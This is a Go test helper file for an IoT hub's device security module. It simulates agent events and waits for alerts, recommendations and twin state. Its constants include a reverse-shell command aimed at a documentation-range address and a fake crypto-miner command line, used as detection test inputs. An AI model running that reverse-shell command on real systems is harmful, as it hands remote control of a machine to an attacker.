// The tests of this directory run a whole hub and follow what devices send to
// it, over its real listeners, to alerts, recommendations and the state in the
// twin, as operators see them.
package security_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tvilling/tvilling"
	"github.com/tvilling/tvilling/internal/app"
	"github.com/tvilling/tvilling/internal/app/apptest"
	"github.com/tvilling/tvilling/internal/client"
	"github.com/tvilling/tvilling/internal/device"
)

// patience is how long a test waits for what must come. It bounds a failing
// test and says nothing about how fast the hub is.
const patience = time.Minute

const hostName = "localhost"

// world is a hub with those who use it.
type world struct {
	*testing.T
	ctx   context.Context
	hub   *apptest.Hub
	owner *client.Client
	marks int
}

// start runs a hub until the test ends.
func start(t *testing.T, change func(*app.Options)) *world {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	t.Cleanup(cancel)
	h := apptest.Start(t, change)
	h.Data = h.Options().Data
	return &world{T: t, ctx: ctx, hub: h, owner: h.Client()}
}

// restart stops the hub, unless that was done, and starts it anew.
func (w *world) restart() {
	w.Helper()
	w.hub.Restart()
	w.owner = w.hub.Client()
}

func securityOf(d tvilling.DeviceID) tvilling.Identity {
	return tvilling.Identity{Device: d, Module: tvilling.SecurityModule}
}

// agent is a device's security agent.
type agent struct {
	w    *world
	id   tvilling.DeviceID
	conn *device.Client
}

// register makes a device and connects its agent, as its security module.
func (w *world) register(id tvilling.DeviceID) *agent {
	w.Helper()
	w.hub.Register(w.owner, id)
	return w.connect(id)
}

func (w *world) connect(id tvilling.DeviceID) *agent {
	w.Helper()
	m, err := w.owner.Module(w.ctx, securityOf(id))
	if err != nil {
		w.Fatalf("the security module of %s: %v", id, err)
	}
	c, err := device.Dial(w.ctx, device.Options{
		Addr: w.hub.MQTT(), TLS: w.hub.TLS(), HostName: hostName, ID: securityOf(id),
		Key: m.Authentication.SymmetricKey.Primary, Clean: true, ClientType: "agent",
	})
	if err != nil {
		w.Fatalf("connect the agent of %s: %v", id, err)
	}
	w.Cleanup(func() { _ = c.Close() }) // the hub may be gone
	return &agent{w: w, id: id, conn: c}
}

// send sends a security message; when it returns, the hub has acknowledged it.
func (a *agent) send(body []byte) {
	a.w.Helper()
	if err := a.try(body); err != nil {
		a.w.Fatalf("send a security message of %s: %v", a.id, err)
	}
}

func (a *agent) try(body []byte) error {
	m := &tvilling.Message{Body: body}
	device.MarkSecurity(m)
	return a.conn.Send(a.w.ctx, m)
}

// sees sends events.
func (a *agent) sees(events ...string) {
	a.w.Helper()
	a.send(message(events...))
}

// message is the body of a security message.
func message(events ...string) []byte {
	return []byte(`{"AgentVersion":"0.0.5","AgentId":"5a4b8c1e-7d2f-4c3a-9b6e-0f1d2c3b4a59","MessageSchemaVersion":"1.0","Events":[` + strings.Join(events, ",") + `]}`)
}

// id is the id of an event: a GUID made of a number. Tests that run side by
// side have hubs of their own.
func id(n int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", n) }

// event is one with an id, of a time.
func event(eventID, name string, at time.Time, items ...string) string {
	typ, category := "Security", "Triggered"
	switch name {
	case "ListeningPorts", "FirewallConfiguration", "LocalUsers", "SystemInformation":
		category = "Periodic"
	case "MessageStatistics", "ConfigurationError":
		typ = "Operational"
	}
	stamp := at.UTC().Format(time.RFC3339)
	return fmt.Sprintf(`{"Id":%q,"TimestampLocal":%q,"TimestampUTC":%q,"Category":%q,"Name":%q,"EventType":%q,"IsEmpty":%t,"PayloadSchemaVersion":"1.0","Payload":[%s]}`,
		eventID, stamp, stamp, category, name, typ, len(items) == 0, strings.Join(items, ","))
}

// text is s as JSON.
func text(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err) // a string can be written
	}
	return string(b)
}

// process is an item of ProcessCreate.
func process(executable, line string) string {
	return `{"Executable":` + text(executable) + `,"ProcessId":7,"ParentProcessId":1,"UserId":"0","UserName":"root","CommandLine":` + text(line) + `}`
}

const (
	miner        = `sh -c "echo cpuminer-multi"`
	reverseShell = `bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1`
)

// settle returns when the hub has drawn its conclusions from all messages
// acknowledged before: they are worked through in one order, so the test adds
// one to the end and waits for its alert.
func (w *world) settle() {
	w.Helper()
	const marker = "marker"
	if w.marks++; w.marks == 1 {
		w.hub.Register(w.owner, marker)
	}
	a := w.connect(marker)
	name := fmt.Sprintf("/tmp/mark-%d", w.marks)
	a.sees(event(id(900_000+w.marks), "ProcessCreate", time.Now(), process(name, miner)))
	if err := a.conn.Close(); err != nil {
		w.Fatal(err)
	}
	for e, err := range w.owner.Feed(w.ctx, client.StreamOptions{Follow: true}) {
		if err != nil {
			w.Fatalf("follow the feed: %v", err)
		}
		if e.Device == marker && strings.Contains(string(e.Body), name+`"`) {
			return
		}
	}
	w.Fatal("the feed ended")
}

// alerts returns the alerts of a device as "type×count", sorted.
func (w *world) alerts(d tvilling.DeviceID) []string {
	w.Helper()
	list := []string{}
	for _, a := range w.alertsOf(d) {
		list = append(list, fmt.Sprintf("%s×%d", a.Type, a.Count))
	}
	slices.Sort(list)
	return list
}

func (w *world) alertsOf(d tvilling.DeviceID) (list []*client.Alert) {
	w.Helper()
	for a, err := range w.owner.Alerts(w.ctx, client.AlertFilter{Device: d}, client.Paging{}) {
		if err != nil {
			w.Fatalf("alerts of %s: %v", d, err)
		}
		list = append(list, a)
	}
	return list
}

// wantAlerts fails unless the settled device has exactly these.
func (w *world) wantAlerts(d tvilling.DeviceID, want ...string) {
	w.Helper()
	slices.Sort(want)
	if got := w.alerts(d); !slices.Equal(got, want) {
		w.Errorf("alerts of %s are %v, want %v", d, got, want)
	}
}

// raised waits for the alert of a type of a device.
func (w *world) raised(d tvilling.DeviceID, typ string) *client.Alert {
	w.Helper()
	for e, err := range w.owner.Feed(w.ctx, client.StreamOptions{Follow: true}) {
		if err != nil {
			w.Fatalf("%s of %s: follow the feed: %v", typ, d, err)
		}
		if e.Subject != "alert" || e.Device != d {
			continue
		}
		a, err := w.owner.Alert(w.ctx, e.ID)
		if err != nil {
			w.Fatal(err)
		}
		if a.Type == typ {
			return a
		}
	}
	w.Fatalf("no %s of %s is raised", typ, d)
	return nil
}

// advised waits until a recommendation of a device has a state and fits.
func (w *world) advised(d tvilling.DeviceID, typ, state string, fits func(*client.Recommendation) bool) *client.Recommendation {
	w.Helper()
	var last *client.Recommendation
	for e, err := range w.owner.Feed(w.ctx, client.StreamOptions{Follow: true}) {
		if err != nil {
			w.Fatalf("%s of %s is not %s: follow the feed: %v; it is %+v", typ, d, state, err, last)
		}
		if e.Subject != "recommendation" || e.Device != d {
			continue
		}
		r, err := w.owner.Recommendation(w.ctx, typ, d)
		if tvilling.CodeOf(err) == tvilling.NotFound {
			continue
		}
		if err != nil {
			w.Fatal(err)
		}
		if last = r; r.State == state && (fits == nil || fits(r)) {
			return r
		}
	}
	w.Fatalf("the feed ended before %s of %s was %s", typ, d, state)
	return nil
}

// posture is the root member of a security module twin.
type posture struct {
	State           string           `json:"state"`
	Score           int              `json:"score"`
	Alerts          map[string]int64 `json:"alerts"`
	Recommendations map[string]int64 `json:"recommendations"`
	Agent           struct{ Version string }
	Configuration   string `json:"configuration"`
}

func (w *world) twin(d tvilling.DeviceID) (*client.Twin, posture) {
	w.Helper()
	t, err := w.owner.Twin(w.ctx, securityOf(d))
	if err != nil {
		w.Fatalf("the security twin of %s: %v", d, err)
	}
	var doc struct {
		Security posture `json:"security"`
	}
	if err := json.Unmarshal(t.Raw, &doc); err != nil {
		w.Fatal(err)
	}
	return t, doc.Security
}

// stands waits until the posture in a twin fits.
func (w *world) stands(d tvilling.DeviceID, what string, fits func(posture) bool) (*client.Twin, posture) {
	w.Helper()
	var t *client.Twin
	var p posture
	for ch, err := range w.owner.Changes(w.ctx, client.StreamOptions{Device: d, Follow: true}) {
		if err != nil {
			w.Fatalf("%s is not %s: follow the journal: %v; it is %+v", d, what, err, p)
		}
		if ch.Op != "updateOwned" {
			continue
		}
		if t, p = w.twin(d); fits(p) {
			return t, p
		}
	}
	w.Fatalf("the journal ended before %s was %s", d, what)
	return t, p
}

// is waits until a device stands in a state.
func (w *world) is(d tvilling.DeviceID, state string) (*client.Twin, posture) {
	w.Helper()
	return w.stands(d, state, func(p posture) bool { return p.State == state })
}

// query returns the devices that a condition on their security twins finds.
func (w *world) query(condition string) []string {
	w.Helper()
	found := []string{}
	for raw, err := range w.owner.Query(w.ctx, "SELECT * FROM devices.modules WHERE "+condition, 0) {
		if err != nil {
			w.Fatalf("query %s: %v", condition, err)
		}
		var t client.Twin
		if err := json.Unmarshal(raw, &t); err != nil {
			w.Fatal(err)
		}
		found = append(found, string(t.DeviceID))
	}
	slices.Sort(found)
	return found
}

// short lets a hub wait for agents no longer than a test does.
func short(o *app.Options) {
	o.Tuning.InstallGrace, o.Tuning.CompareGrace = time.Second, time.Second
}
